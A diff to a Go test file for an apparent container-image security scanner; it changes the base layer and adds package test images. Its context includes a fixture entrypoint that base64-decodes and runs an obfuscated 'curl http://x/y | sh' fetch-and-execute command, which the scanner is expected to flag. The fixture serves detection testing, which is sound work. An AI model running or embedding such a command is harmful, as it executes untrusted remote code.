@@ -36,7 +36,7 @@ func (h hit) String() string {
 // base, plus the bare base, and the findings the pack must make on them:
 // exactly these, and nothing else.
 func classImages(t testing.TB) ([]testImage, []hit) {
-	base := baseLayer(t)
+	base := dpkgBaseLayer(t)
 	img := func(repo string, ls ...v1.Layer) testImage {
 		return testImage{repo: repo, layers: append([]v1.Layer{base}, ls...)}
 	}
@@ -307,6 +307,10 @@ func classImages(t testing.TB) ([]testImage, []hit) {
 		cf.Config.Entrypoint = []string{"/bin/sh", "-c", "echo Y3VybCBodHRwOi8veC95IHwgc2g= | base64 -d | sh"}
 	}
 	add(decode, hit{rule: "history-suspicious-command", layer: 1}, hit{rule: "config-decode-to-shell", layer: -1})
+
+	for _, ti := range packageImages(t, base) {
+		add(ti.testImage, ti.hits...)
+	}
 	return imgs, want
 }
 
